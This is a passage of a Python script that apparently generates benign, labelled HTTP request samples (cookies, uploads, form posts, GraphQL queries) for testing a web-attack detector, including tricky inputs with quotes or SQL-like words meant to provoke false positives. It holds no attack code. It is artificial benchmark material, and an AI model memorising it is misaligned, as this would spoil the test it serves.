                        ["snippet", "helper for the team", "quick example", "from today's pairing session"]
                    ),
                    "public": R.choice([True, False]),
                    "files": {s[1]: {"content": PH}},
                },
                s[2],
                hard=s[3],
            )

        return _

    def review(s):
        def _():
            J(
                "POST",
                "/api/v1/repos/acme/"
                + R.choice(["web", "api", "infra"])
                + "/pulls/"
                + str(R.randint(10, 999))
                + "/comments",
                {"path": "src/" + s[1], "line": R.randint(1, 40), "suggestion": PH},
                s[2],
                hard=s[3],
            )

        return _

    def chat(s):
        def _():
            J(
                "POST",
                "/api/v1/chat/completions",
                {"model": "assistant-large", "messages": [{"role": "user", "content": PH}]},
                R.choice(
                    [
                        "Why does this not work?\n\n",
                        "Can you review this " + s[0] + " code?\n\n",
                        "Explain this please:\n\n",
                    ]
                )
                + s[2],
                hard=s[3],
            )

        return _

    def judge(s):
        def _():
            J(
                "POST",
                "/api/v2/submissions",
                {"problem_id": R.randint(1, 2000), "language": s[0], "source_code": PH},
                s[2],
                hard=s[3],
            )

        return _

    def paste(s):
        def _():
            F("POST", "/paste", [("title", s[1]), ("syntax", s[0]), ("expiry", "1W"), ("content", PH)], s[2], hard=s[3])

        return _

    def upload(s):
        def _():
            M(
                "/api/v1/projects/" + str(R.randint(1, 99)) + "/files",
                [("path", "src/"), ("file", s[1], "text/plain", PH)],
                s[2],
                hard=s[3],
            )

        return _

    def notebook(s):
        def _():
            J(
                "PATCH",
                "/api/contents/notebooks/analysis-" + str(R.randint(1, 50)) + ".ipynb/cells/" + str(R.randint(0, 30)),
                {"cell_type": "code", "source": PH, "metadata": {}},
                s[2],
                hard=s[3],
            )

        return _

    for s in CODE_SNIPPETS:
        ctx += [gist(s), review(s), chat(s), judge(s), paste(s), upload(s), notebook(s)]
    R.shuffle(ctx)
    makers = ctx
    run_makers("benign", "benign_code", makers, 76)


def gen_benign_cookies():
    def ga():
        v = f"GA1.1.{R.randint(100000000, 2147483647)}.{R.randint(1690000000, 1733400000)}"
        C(
            "/",
            "_ga",
            v,
            others=[
                f"_ga_{rtoken(10).upper()}=GS1.1.{R.randint(1733000000, 1733400000)}.3.1.{R.randint(1733000000, 1733400000)}.0.0.0"
            ],
        )

    def onetrust():
        v = (
            "isGpcEnabled=0&datestamp=Thu Dec 05 2026 10:21:04 GMT+0100 (Central European Standard Time)&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId="
            + ruuid()
            + "&interactionCount=1&isAnonUser=1&landingPath=NotLandingPage&groups=C0001:1,C0002:1,C0003:"
            + str(R.randint(0, 1))
            + ",C0004:0"
        )
        C(
            "/",
            "OptanonConsent",
            v,
            raw=urllib.parse.quote(v, safe="-_.~=&"),
            hard=True,
            others=["OptanonAlertBoxClosed=2026-12-05T09:21:04.512Z"],
        )

    def cart():
        v = json.dumps(
            {"items": [{"sku": p[1], "qty": R.randint(1, 2)} for p in R.sample(PRODUCTS, 2)], "currency": "USD"},
            separators=(",", ":"),
        )
        C("/cart", "cart", v, raw=urllib.parse.quote(v, safe=""), hard=True)

    def simple():
        name, v = R.choice(
            [
                ("lang", R.choice(["en-US", "de", "fr-CA", "pt-BR"])),
                ("theme", R.choice(["dark", "light", "system"])),
                ("currency", R.choice(["EUR", "USD", "GBP", "JPY"])),
                ("cookie_consent", "accepted"),
                ("sidebar", R.choice(["collapsed", "expanded"])),
                ("country", R.choice(["US", "IE", "DE", "NL"])),
            ]
        )
        C("/" + R.choice(["", "account", "shop", "help"]), name, v, others=[_session_cookie()])

    def tz():
        v = R.choice(["Europe/Berlin", "America/Los_Angeles", "Asia/Kolkata", "Australia/Sydney", "America/Sao_Paulo"])
        C("/dashboard", "tz", v, raw=urllib.parse.quote(v, safe=""))

    def return_to():
        v = R.choice(
            [
                "/account/orders?page=2",
                "/admin/users?role=editor&sort=-created",
                "/checkout/shipping?step=2",
                "/settings/billing#invoices",
            ]
        )
        C("/login", "return_to", v, raw=urllib.parse.quote(v, safe=""), hard=True)

    def viewed():
        v = "|".join(str(R.randint(100, 99999)) for _ in range(R.randint(2, 6)))
        C("/products", "recently_viewed", v, raw=v.replace("|", "%7C"), hard=True)

    def last_search():
        v = R.choice(
            [
                "drop shoulder sweater",
                "select comfort mattress",
                "union jack cushion",
                "script font tattoo",
                "update ipad os",
                "delete account",
            ]
        )
        C("/search", "last_search", v, raw=urllib.parse.quote(v), hard=True)

    def wp():
        v = "libraryContent=browse&editor=" + R.choice(["tinymce", "html"]) + "&hidetb=1&posts_list_mode=list&mfold=o"
        C(
            "/wp-admin/edit.php",
            "wp-settings-1",
            v,
            raw=urllib.parse.quote(v, safe=""),
            hard=True,
            others=[
                f"wp-settings-time-1={R.randint(1733000000, 1733400000)}",
                "wordpress_test_cookie=WP%20Cookie%20check",
            ],
        )

    def ajs():
        v = '"' + ruuid() + '"'
        C("/", "ajs_anonymous_id", v, raw="%22" + v.strip('"') + "%22", hard=True)

    def stripe():
        v = ruuid() + rhex(6)
        C("/checkout", "__stripe_mid", v, others=["__stripe_sid=" + ruuid() + rhex(6)])

    def fbp():
        v = f"fb.1.{R.randint(1733000000000, 1733400000000)}.{R.randint(100000000, 999999999)}"
        C("/", "_fbp", v)

    def awsalb():
        v = b64(bytes(R.getrandbits(8) for _ in range(96)))
        C("/api/v1/session", "AWSALB", v, others=["AWSALBCORS=" + v])

    def xsrf():
        v = b64(bytes(R.getrandbits(8) for _ in range(30)))
        C(
            "/account",
            "XSRF-TOKEN",
            v,
            raw=urllib.parse.quote(v, safe=""),
            method="POST",
            body="name=x",
            ctype="application/x-www-form-urlencoded",
        )

    def laravel():
        v = b64(
            json.dumps(
                {
                    "iv": b64(bytes(R.getrandbits(8) for _ in range(16))),
                    "value": b64(bytes(R.getrandbits(8) for _ in range(48))),
                    "mac": rhex(64),
                    "tag": "",
                },
                separators=(",", ":"),
            )
        )
        C("/home", "laravel_session", v, raw=urllib.parse.quote(v, safe=""))

    def prefs():
        v = json.dumps(
            {
                "sidebar": R.choice(["collapsed", "open"]),
                "density": R.choice(["compact", "comfortable"]),
                "columns": ["name", "status", "owner"],
            },
            separators=(",", ":"),
        )
        C("/app/projects", "ui_prefs", v, raw=urllib.parse.quote(v, safe=""), hard=True)

    def name():
        f, l = person()
        v = f"{f} {l}"
        C("/welcome", "display_name", v, raw=urllib.parse.quote(v), hard=("'" in v))

    def sort():
        v = R.choice(["price desc", "created_at asc", "name asc, id desc", "relevance"])
        C("/shop/category/shoes", "sort", v, raw=urllib.parse.quote(v), hard=True)

    def filters():
        v = R.choice(["brand:nike;size:10;color:black", "price:0-50;rating:4+", "type:pdf;owner:me;modified:7d"])
        C("/search", "saved_filters", v, raw=urllib.parse.quote(v, safe=":"), hard=True)

    def cfbm():
        v = (
            rtoken(43, string.ascii_letters + string.digits + "_-.")
            + "-"
            + str(R.randint(1733000000, 1733400000))
            + "-1.0.1.1-"
            + rtoken(60, string.ascii_letters + string.digits + "._")
        )
        C("/", "__cf_bm", v)

    def hubspot():
        v = rhex(32)
        C(
            "/pricing",
            "hubspotutk",
            v,
            others=[
                f"__hstc={R.randint(10**8, 10**9)}.{rhex(32)}.{R.randint(1733000000000, 1733400000000)}.{R.randint(1733000000000, 1733400000000)}.{R.randint(1733000000000, 1733400000000)}.3"
            ],
        )

    def hotjar():
        v = b64(
            json.dumps(
                {"id": ruuid()[:16], "created": R.randint(1733000000000, 1733400000000), "existing": True},
                separators=(",", ":"),
            )
        )
        C("/", "_hjSessionUser_" + str(R.randint(100000, 9999999)), v)

    def loc():
        v = R.choice(["Paris, France", "São Paulo, BR", "Zürich (CH)", "St. John's, NL", "Washington, D.C."])
        C("/stores", "location", v, raw=urllib.parse.quote(v), hard=True)

    def remember():
        v = (
            str(R.randint(1, 99999))
            + "|"
            + rtoken(60)
            + "|"
            + "$2y$10$"
            + rtoken(53, string.ascii_letters + string.digits + "./")
        )
        C(
            "/dashboard",
            "remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d",
            v,
            raw=urllib.parse.quote(v, safe=""),
            hard=True,
        )

    def flask():
        v = (
            b64u(
                json.dumps({"_fresh": True, "_id": rhex(32), "user_id": str(R.randint(1, 9999))}, separators=(",", ":"))
            )
            + "."
            + b64u(bytes(R.getrandbits(8) for _ in range(4)))
            + "."
            + b64u(bytes(R.getrandbits(8) for _ in range(20)))
        )
        C("/dashboard", "session", v)

    def django_msgs():
        v = (
            "W1siX19qc29uX21lc3NhZ2UiLDAsMjUsIlByb2ZpbGUgdXBkYXRlZC4iXV0:1t"
            + rtoken(4)
            + ":"
            + rtoken(43, string.ascii_letters + string.digits + "_-")
        )
        C(
            "/accounts/profile/",
            "messages",
            v,
            others=["csrftoken=" + rtoken(32), "sessionid=" + rtoken(32, string.ascii_lowercase + string.digits)],
        )

    makers = [
        ga,
        onetrust,
        cart,
        simple,
        tz,
        return_to,
        viewed,
        last_search,
        wp,
        ajs,
        stripe,
        fbp,
        awsalb,
        xsrf,
        laravel,
        prefs,
        name,
        sort,
        filters,
        cfbm,
        hubspot,
        hotjar,
        loc,
        remember,
        flask,
        django_msgs,
        simple,
        ga,
        fbp,
    ]
    run_makers("benign", "benign_cookies", makers, 76)


def gen_benign_files():
    fnames_plain = [
        "IMG_20241105_142233.jpg",
        "notes.txt",
        "backup_2024-11-30.tar.gz",
        "Screenshot 2026-12-04 at 10.22.31.png",
        "data (1).csv",
        "cat.gif",
        "invoice_10482.pdf",
        "presentation_final.pptx",
        "logo@2x.png",
        "team-photo.heic",
        "meeting-recording.m4a",
        "export_2026_11.xlsx",
        "DSC_0042.JPG",
        "Scan 12 Nov.pdf",
    ]
    fnames_fp = [
        "Q3 Report (final) v2.pdf",
        "O'Reilly - Learning SQL (3rd ed).pdf",
        "budget_2025;draft.xlsx",
        "contract & NDA - signed.docx",
        "deploy.sh",
        "select_top_customers.sql",
        "résumé – Chloé Dubois.pdf",
        "Bob's BBQ menu [2025].pdf",
        "script.js",
        "index.php.txt",
        "50% off flyer!.png",
        "~$quarterly.xlsx",
        ".env.example",
        "config.yaml",
    ]
    mimes = {
        "jpg": "image/jpeg",
        "JPG": "image/jpeg",
        "png": "image/png",
        "gif": "image/gif",
        "pdf": "application/pdf",
        "txt": "text/plain",
        "csv": "text/csv",
        "gz": "application/gzip",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        "heic": "image/heic",
        "m4a": "audio/mp4",
        "sh": "application/x-sh",
        "sql": "application/sql",
        "js": "text/javascript",
        "example": "text/plain",
        "yaml": "application/yaml",
    }

    def mime(fn):
        return mimes.get(fn.rsplit(".", 1)[-1], "application/octet-stream")

    def content(fn):
        ext = fn.rsplit(".", 1)[-1]
        if ext == "csv":
            return "id,name,amount\n1,Widget,9.99\n2,Gadget,19.50\n"
        if ext in ("txt", "example"):
            return (
                "APP_ENV=production\nLOG_LEVEL=info\n"
                if ext == "example"
                else "Call plumber Tuesday.\nBuy printer paper.\n"
            )
        if ext == "sh":
            return "#!/bin/sh\nset -e\nnpm ci\nnpm run build\n"
        if ext == "sql":
            return "SELECT customer_id, SUM(total) AS spend FROM orders GROUP BY customer_id ORDER BY spend DESC LIMIT 10;\n"
        if ext == "js":
            return "document.addEventListener('DOMContentLoaded', () => console.log('ready'));\n"
        if ext == "yaml":
            return "server:\n  port: 8080\n  host: 0.0.0.0\nlogging:\n  path: /var/log/app\n"
        return "(binary data)"

    def plain_name():
        return R.choice(
            fnames_plain
            + [
                f"IMG_2026{R.randint(1, 12):02d}{R.randint(1, 28):02d}_{R.randint(100000, 235959)}.jpg",
                f"Scan {R.randint(1, 28)} {R.choice(['Nov', 'Dec', 'Jan'])} 2026.pdf",
                f"invoice_{R.randint(10000, 99999)}.pdf",
                f"export_{R.randint(2024, 2026)}_{R.randint(1, 12):02d}.csv",
                f"VID_{R.randint(10**7, 10**8)}.mp4".replace(".mp4", ".m4a"),
                f"report-{R.choice(['q1', 'q2', 'q3', 'q4'])}-{R.randint(2023, 2026)}.xlsx",
            ]
        )

    def upload(fp):
        def _():
            fn = R.choice(fnames_fp) if fp else plain_name()
            M(
                R.choice(["/api/v1/files", "/upload", "/api/v1/attachments", "/drive/upload"]),
                [("folder_id", str(R.randint(100, 999))), ("file", PH, mime(fn), content(fn))],
                fn,
                hard=fp,
            )

        return _

    def presign(fp):
        def _():
            fn = R.choice(fnames_fp) if fp else plain_name()
            J(
                "POST",
                "/api/v1/uploads/presign",
                {"filename": PH, "content_type": mime(fn), "size": R.randint(1000, 9000000)},
                fn,
                hard=fp,
            )

        return _

    def download(fp):
        def _():
            fn = R.choice(fnames_fp) if fp else plain_name()
            Q("/download", "file", fn, pre="id=" + str(R.randint(1000, 9999)) + "&", hard=fp)

        return _

    def drive_path():
        p = R.choice(
            [
                "/Documents/Taxes/2024/W-2.pdf",
                "/Photos/2026/Lisbon trip/IMG_0042.jpg",
                "/Shared/Marketing/Brand guidelines v3.pdf",
                "/Projects/acme/specs/api-v2.md",
            ]
        )
        Q("/api/v1/drive/files", "path", p, hard=True)

    def path_file():
        fn = R.choice(["Invoice #1042.pdf", "Q4 plan (draft).docx", "menu & prices.pdf", "Ann's notes.txt"])
        P("/files/2026/{}", fn, hard=True)

    def onedrive():
        p = R.choice(["Documents/Report.docx", "Pictures/Family/2026-xmas.jpg", "Work/Budget FY27.xlsx"])
        P(
            "/v1.0/me/drive/root:/{}:/content",
            p,
            raw=urllib.parse.quote(p, safe="/"),
            method="PUT",
            body="(file bytes)",
            ctype="application/octet-stream",
            hard=True,
        )

    def fakepath():
        fn = "C:\\fakepath\\" + plain_name()
        F("POST", "/profile/import", [("source", PH), ("format", "auto")], fn, hard=True)

    def dropbox():
        v = json.dumps(
            {
                "path": "/Homework/"
                + R.choice(["math/Prime_Numbers.txt", "history/essay draft.docx", "bio/cells.pdf"]),
                "mode": "add",
                "autorename": True,
                "mute": False,
            }
        )
        H(
            "POST",
            "/2/files/upload",
            "Dropbox-API-Arg",
            v,
            body="(file bytes)",
            ctype="application/octet-stream",
            hard=True,
        )

    def xfilename():
        fn = R.choice(["Annual%20Report%202024.pdf", "holiday-video.mp4", "photo%20(2).jpg", "scan_0001.tiff"])
        H("POST", "/api/v1/uploads/resumable", "X-File-Name", fn, body="(chunk)", ctype="application/octet-stream")

    def manifest():
        fn = plain_name()
        X(
            "POST",
            "/api/v1/exports/manifest",
            '<?xml version="1.0"?>\n<manifest><file name="@@PAYLOAD@@" size="'
            + str(R.randint(100, 99999))
            + '"/></manifest>',
            fn,
        )

    def rename():
        fn = R.choice(
            [
                "Final FINAL v3.docx",
                "tax return 2025 (amended).pdf",
                "Mom & Dad anniversary.mov",
                "2026-12-05 standup.md",
            ]
        )
        J("PATCH", "/api/v1/files/" + rtoken(12), {"name": PH}, fn, hard="(" in fn or "&" in fn)

    def webdav():
        fn = R.choice(["notes.md", "todo list.txt", "recipes/banana bread.md"])
        P(
            "/remote.php/dav/files/" + R.choice(["ann", "tom", "chloe"]) + "/{}",
            fn,
            raw=urllib.parse.quote(fn, safe="/"),
            method="PUT",
            body="# notes\n- item\n",
            ctype="text/markdown",
        )

    makers = [
        upload(False),
        upload(True),
        presign(False),
        presign(True),
        download(False),
        download(True),
        drive_path,
        path_file,
        onedrive,
        fakepath,
        dropbox,
        xfilename,
        manifest,
        rename,
        webdav,
    ]
    run_makers("benign", "benign_files", makers, 76)


def gen_benign_forms():
    def login():
        f, l = person()
        pw = R.choice(
            [
                "Tr0ub4dor&3",
                "correct horse battery staple",
                "P@ssw0rd!(2024)",
                "Summer2026!",
                "h7$Kq!pz#2Lm",
                "ilovemycat<3",
            ]
        )
        F("POST", "/login", [("email", email_for(f, l)), ("password", PH), ("remember_me", "1")], pw, hard=True)

    def login_plain():
        f, l = person()
        e = email_for(f, l)
        F(
            "POST",
            "/users/sign_in",
            [
                ("authenticity_token", b64(bytes(R.getrandbits(8) for _ in range(32)))),
                ("user[email]", PH),
                ("user[password]", rtoken(12)),
                ("commit", "Log in"),
            ],
            e,
        )

    def signup():
        f, l = person()
        F(
            "POST",
            "/signup",
            [("full_name", PH), ("email", email_for(f, l)), ("company", R.choice(COMPANIES)), ("terms", "on")],
            f"{f} {l}",
            hard=("'" in l),
        )

    def company():
        c = R.choice(COMPANIES)
        F(
            "POST",
            "/onboarding/company",
            [("company_name", PH), ("size", R.choice(["1-10", "11-50", "51-200"])), ("industry", "Retail")],
            c,
            hard=("&" in c or "'" in c),
        )

    def contact(fp):
        def _():
            msg = (
                R.choice(
                    [
                        "Hi, I can't log in (error 500) -- tried 3 times; please help!",
                        "Is the 12\" skillet oven-safe? I'd like to use it at 260°C.",
                        "You've charged me twice for order #48213; can you refund one? Thanks, Seán",
                        "Where's my parcel?? Tracking says 'delivered' but it isn't here.",
                        "Quick question: do you ship to the Channel Islands (Jersey/Guernsey)?",
                    ]
                )
                if fp
                else R.choice(
                    [
                        "Hello, I would like a quote for 20 units.",
                        "Please call me back tomorrow morning",
                        "Do you have this in blue",
                        "I want to update my delivery address",
                        "Thanks for the fast delivery",
                    ]
                )
            )
            F(
                "POST",
                "/contact",
                [("name", " ".join(person())), ("email", email_for(*person())), ("message", PH)],
                msg,
                hard=fp,
            )

        return _

    def address():
        a = R.choice(
            [
                "12 O'Connell St, Apt #4",
                "Flat 3; 45 Queen's Road",
                "Unit 5/18 King St (rear entrance)",
                "742 Evergreen Terrace",
                "PO Box 1234",
            ]
        )
        city = R.choice(CITIES)
        F(
            "POST",
            "/checkout/address",
            [("address1", PH), ("city", city[0]), ("zip", city[2]), ("country", city[3])],
            a,
            hard=any(c in a for c in "'#;("),
        )

    def newsletter():
        e = email_for(*person())
        F("POST", "/newsletter/subscribe", [("email", PH), ("list", "weekly")], e)

    def settings_path():
        p = R.choice(
            [
                "/usr/local/bin",
                "/opt/homebrew/bin/ffmpeg",
                "/var/lib/app/data",
                "C:\\Program Files\\Tool\\tool.exe",
                "~/backups",
            ]
        )
        F("POST", "/admin/settings/paths", [("ffmpeg_path", PH), ("max_upload_mb", "200")], p, hard=True)

    def cron():
        c = R.choice(["*/15 * * * *", "0 3 * * 1-5", "30 2 1 * *", "@daily"])
        F("POST", "/admin/jobs/edit", [("name", "nightly-report"), ("schedule", PH), ("enabled", "1")], c, hard=True)

    def comment():
        t = R.choice(
            [
                "Great post! I'd add that SELECT * is usually a bad idea in prod :)",
                'This broke for me on Windows (path had a space in it); quoting "C:\\Program Files" fixed it.',
                "Thanks -- the <details> trick is neat.",
                "Tried it, works. Only change: use && instead of ; so it stops on error.",
            ]
        )
        F(
            "POST",
            "/blog/comments",
            [("post_id", str(R.randint(100, 999))), ("author", R.choice(FIRST)), ("body", PH)],
            t,
            hard=True,
        )

    def booking():
        t = R.choice(
            [
                "Ground floor room please (knee surgery) & late check-in ~11pm",
                "Celebrating our anniversary - anything special would be lovely!",
                "Need a cot for a 1-yr-old",
                "No feather pillows",
            ]
        )
        F(
            "POST",
            "/book/confirm",
            [("room", "DBL"), ("nights", str(R.randint(1, 7))), ("special_requests", PH)],
            t,
            hard=("(" in t or "&" in t),
        )

    def survey():
        t = R.choice(
            [
                "5/5 - would recommend!",
                "The checkout was confusing; the 'Apply coupon' button didn't do anything.",
                "ok",
                "Faster shipping please",
                "Love it <3",
            ]
        )
        F("POST", "/survey/submit", [("nps", str(R.randint(0, 10))), ("feedback", PH)], t, hard=(";" in t or "<" in t))

    def phone():
        p = R.choice(
            ["+1 (555) 010-2234", "+44 20 7946 0958", "(03) 9555 0123", "+49 30 901820", "555.010.7788 ext. 12"]
        )
        F("POST", "/account/phone", [("phone", PH), ("sms_opt_in", "1")], p, hard="(" in p)

    def website():
        w = R.choice(
            [
                "https://www.example.com/about?ref=1",
                "https://janedoe.dev",
                "http://my-bakery.co.uk/menu#cakes",
                "https://linkedin.com/in/jane-o-brien-12345",
            ]
        )
        F("POST", "/profile/edit", [("website", PH), ("bio", "Designer")], w, hard="?" in w)

    def wp_post():
        t = R.choice(
            [
                "10 Tips for Writing Better SQL Queries",
                "Why I Switched From Bash to Python (and Back)",
                "Our Q4 Roadmap",
                "Weekend Sourdough: A Beginner's Guide",
            ]
        )
        F(
            "POST",
            "/wp-admin/post.php",
            [
                ("_wpnonce", rhex(10)),
                ("post_title", PH),
                ("post_status", "draft"),
                ("action", "editpost"),
                ("post_ID", str(R.randint(100, 9999))),
            ],
            t,
            hard=("SQL" in t or "Bash" in t),
        )

    def tags():
        t = R.choice(
            [
                "sql, databases, tutorial",
                "bash; shell; scripting",
                "javascript, xss-prevention, security",
                "baking, bread",
            ]
        )
        F(
            "POST",
            "/posts/" + str(R.randint(1, 999)) + "/tags",
            [("tags", PH)],
            t,
            hard=("sql" in t or "bash" in t or "xss" in t),
        )

    def bracket():
        city = R.choice(CITIES)
        v = R.choice(STREETS)
        F(
            "POST",
            "/orders",
            [
                ("order[address][street]", PH),
                ("order[address][city]", city[0]),
                ("order[items][0][sku]", R.choice(PRODUCTS)[1]),
                ("order[items][0][qty]", "2"),
            ],
            v,
            hard=True,
        )
        ROWS[-1]["payload"] = "order[address][street]=" + v

    def search_form():
        q = R.choice(["winter boots", "hdmi cable 3m", "gift for dad", "standing desk"])
        F("POST", "/search", [("q", PH), ("category", "all")], q)

    def job():
        t = R.choice(
            [
                "I'm a backend engineer (Go, PostgreSQL) with 6 years' experience; happy to relocate.",
                "Please find my CV attached. I am available from January.",
                "I've led migrations from MySQL to Postgres & built internal tooling in Python.",
            ]
        )
        F(
            "POST",
            "/careers/apply",
            [("position", "Senior Engineer"), ("cover_letter", PH)],
            t,
            hard=("'" in t or "(" in t or "&" in t),
        )

    def gift():
        t = R.choice(
            ["Happy birthday!! Love, Mum & Dad xx", "Congrats on the new job :)", "Merry Christmas from all of us"]
        )
        F("POST", "/cart/gift-message", [("message", PH)], t, hard="&" in t or ":)" in t)

    def plain_misc():
        k, v = R.choice(
            [
                ("quantity", str(R.randint(1, 9))),
                ("color", R.choice(["red", "navy", "olive"])),
                ("size", R.choice(["S", "M", "L", "XL"])),
                ("coupon", R.choice(["WELCOME10", "FREESHIP", "BF2026"])),
            ]
        )
        F("POST", "/cart/add", [("product_id", str(R.randint(1000, 9999))), (k, PH)], v)

    makers = [
        login,
        login_plain,
        signup,
        company,
        contact(False),
        contact(True),
        address,
        newsletter,
        settings_path,
        cron,
        comment,
        booking,
        survey,
        phone,
        website,
        wp_post,
        tags,
        bracket,
        search_form,
        job,
        gift,
        plain_misc,
        login_plain,
        newsletter,
        search_form,
        plain_misc,
    ]
    run_makers("benign", "benign_forms", makers, 76)


def gen_benign_graphql():
    Qs = [
        (
            "GetProduct",
            "query GetProduct($id: ID!) {\n  product(id: $id) {\n    id\n    title\n    priceRange { minVariantPrice { amount currencyCode } }\n    images(first: {N}) { edges { node { url altText } } }\n  }\n}",
            lambda: {"id": "gid://shopify/Product/" + str(R.randint(10**12, 10**13))},
            False,
        ),
        (
            "ListOrders",
            "query ListOrders($first: Int = 20, $after: String) {\n  viewer {\n    orders(first: $first, after: $after, sortKey: {SORT}, reverse: true) {\n      pageInfo { hasNextPage endCursor }\n      nodes { id name totalPrice createdAt }\n    }\n  }\n}",
            lambda: {"first": 20, "after": b64u("cursor:" + str(R.randint(1, 999)))},
            False,
        ),
        ("Me", "query Me {\n  me { id email displayName avatarUrl(size: {N}) }\n}", lambda: {}, False),
        (
            "RepoIssues",
            "query RepoIssues($owner: String!, $name: String!) {\n  repository(owner: $owner, name: $name) {\n    issues(last: {N}, states: {STATE}) {\n      edges { node { title url labels(first: 5) { nodes { name } } } }\n    }\n  }\n}",
            lambda: {
                "owner": R.choice(["octocat", "acme", "torvalds"]),
                "name": R.choice(["Hello-World", "linux", "web"]),
            },
            False,
        ),
        (
            "ProductWithReviews",
            "query ProductWithReviews($slug: String!, $withReviews: Boolean!) {\n  product(slug: $slug) {\n    ...ProductCard\n    reviews(first: {N}) @include(if: $withReviews) { rating body author { name } }\n  }\n}\n\nfragment ProductCard on Product {\n  id\n  name\n  price\n  thumbnail: image(width: {W}) { url }\n}",
            lambda: {"slug": R.choice(["oak-cutting-board", "trail-shoes", "earl-grey-tin"]), "withReviews": True},
            False,
        ),
        (
            "Dashboard",
            'query Dashboard {\n  sales: metrics(name: "sales", range: {RANGE}) { total change }\n  visitors: metrics(name: "visitors", range: {RANGE}) { total change }\n}',
            lambda: {},
            False,
        ),
        (
            "IntrospectionQuery",
            "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { ...FullType }\n  }\n}\n\nfragment FullType on __Type {\n  kind\n  name\n  fields(includeDeprecated: {BOOL}) { name args { name type { name kind } } }\n}",
            lambda: {},
            True,
        ),
        (
            "SearchArticles",
            "query SearchArticles($where: articles_bool_exp!) {\n  articles(where: $where, order_by: {published_at: desc}, limit: {N}) { id title slug }\n}",
            lambda: {
                "where": {
                    "_and": [
                        {"status": {"_eq": "published"}},
                        {"title": {"_ilike": R.choice(["%union%", "%select%", "%drop-off%", "%script%"])}},
                    ]
                }
            },
            True,
        ),
    ]
    Ms = [
        (
            "UpdateProfile",
            "mutation UpdateProfile($input: UpdateProfileInput!) {\n  updateProfile(input: $input) {\n    user { id bio }\n    errors { field message }\n  }\n}",
            "bio",
            [
                "I'm a dev (mostly Go & SQL); say hi!",
                "Coffee > tea. Building things at @acme.",
                "Maker, runner, occasional DROP TABLE survivor :)",
                "Designer based in Lyon; she/her",
                "Just here for the cat pictures",
            ],
        ),
        (
            "AddComment",
            "mutation AddComment($postId: ID!, $body: String!) {\n  addComment(postId: $postId, body: $body) { id createdAt }\n}",
            "body",
            [
                "Nice write-up! One nit: `SELECT *` in the second example will break if columns change.",
                "+1, we hit the same issue on Safari 17",
                "What's the license for this?",
                "Use <code>&&</code> instead of <code>;</code> if you want it to stop on error.",
            ],
        ),
        (
            "CreateTask",
            "mutation CreateTask($title: String!, $due: Date) {\n  createTask(title: $title, dueDate: $due) { task { id title } }\n}",
            "title",
            [
                "Call O'Brien re: invoice #4471",
                "Update /etc/hosts on the build box",
                "Prepare Q1 OKRs (draft)",
                "Buy milk",
            ],
        ),
        (
            "Checkout",
            "mutation Checkout($cartId: ID!, $note: String) {\n  checkoutCreate(cartId: $cartId, note: $note) { checkout { id webUrl } userErrors { message } }\n}",
            "note",
            ["Please gift wrap", "Leave with neighbour (No. 12) if I'm out", "No rush"],
        ),
    ]

    def vary(text):
        return (
            text.replace("{N}", str(R.randint(3, 50)))
            .replace("{W}", str(R.choice([160, 320, 480, 640, 800, 1024])))
            .replace("{SORT}", R.choice(["CREATED_AT", "UPDATED_AT", "TOTAL_PRICE", "ID"]))
            .replace("{STATE}", R.choice(["OPEN", "CLOSED"]))
            .replace("{RANGE}", R.choice(["LAST_7_DAYS", "LAST_30_DAYS", "LAST_90_DAYS", "YEAR_TO_DATE"]))
            .replace("{BOOL}", R.choice(["true", "false"]))
        )

    def query_post(q):
        def _():
            J(
                "POST",
                R.choice(["/graphql", "/graphql", "/api/graphql", "/v1/graphql"]),
                {"operationName": q[0], "variables": q[2](), "query": PH},
                vary(q[1]),
                hard=q[3],
            )

        return _

    def query_get(q):
        def _():
            v = json.dumps(q[2](), separators=(",", ":"))
            qs = "operationName=" + q[0] + "&variables=" + urllib.parse.quote(v, safe="") + "&query="
            Q("/graphql", None, vary(q[1]), pre=qs, hard=q[3])

        return _

    def mutation(m, fp):
        def _():
            val = R.choice(m[3])
            if fp != (any(c in val for c in "'();<>&*@#/") or "DROP" in val or "SELECT" in val):
                val = R.choice(m[3])
            hard = any(c in val for c in "'();<>&*/") or "DROP" in val or "SELECT" in val
            J(
                "POST",
                "/graphql",
                {
                    "operationName": m[0],
                    "variables": {"input": {m[2]: PH}}
                    if m[0] == "UpdateProfile"
                    else {m[2]: PH, **({"postId": "p_" + rtoken(8)} if m[0] == "AddComment" else {})},
                    "query": m[1],
                },
                val,
                hard=hard,
            )

        return _

    def inline_literal():
        txt = R.choice(['He said \\"ship it\\" -- so we did.', "Rock & roll (live)", "50% off; today only"])
        q = 'mutation {\n  createNote(text: "' + txt + '") { id }\n}'
        J("POST", "/api/graphql", {"query": PH}, q, hard=True)

    def persisted():
        ext = json.dumps({"persistedQuery": {"version": 1, "sha256Hash": rhex(64)}}, separators=(",", ":"))
        Q(
            "/graphql",
            "extensions",
            ext,
            pre="operationName=" + R.choice(["HomeFeed", "CartCount", "Header"]) + "&variables=%7B%7D&",
        )

    def batched():
        body = [
            {"operationName": "CartCount", "query": "query CartCount { cart { totalQuantity } }", "variables": {}},
            {
                "operationName": "Header",
                "query": "query Header { shop { name primaryDomain { url } } }",
                "variables": {},
            },
        ]
        J("POST", "/graphql", body, "query Header { shop { name primaryDomain { url } } }")
        ROWS[-1]["payload"] = body[1]["query"]

    def upload():
        ops = json.dumps(
            {"query": "mutation ($file: Upload!) { uploadAvatar(file: $file) { url } }", "variables": {"file": None}}
        )
        M(
            "/graphql",
            [
                ("operations", PH),
                ("map", '{"0": ["variables.file"]}'),
                ("0", "avatar-" + str(R.randint(1, 99)) + ".png", "image/png", "(binary)"),
            ],
            ops,
        )

    def github_search():
        term = R.choice(
            [
                "language:python stars:>1000",
                'repo:acme/web is:open label:"good first issue"',
                "org:acme sql injection in:title",
                "user:octocat fork:true",
            ]
        )
        J(
            "POST",
            "/graphql",
            {
                "query": "query($q: String!) { search(query: $q, type: ISSUE, first: 10) { issueCount nodes { ... on Issue { title url } } } }",
                "variables": {"q": PH},
            },
            term,
            hard=("injection" in term or '"' in term),
        )

    makers = (
        [query_post(q) for q in Qs]
        + [query_get(q) for q in Qs[:5]]
        + [mutation(m, True) for m in Ms]
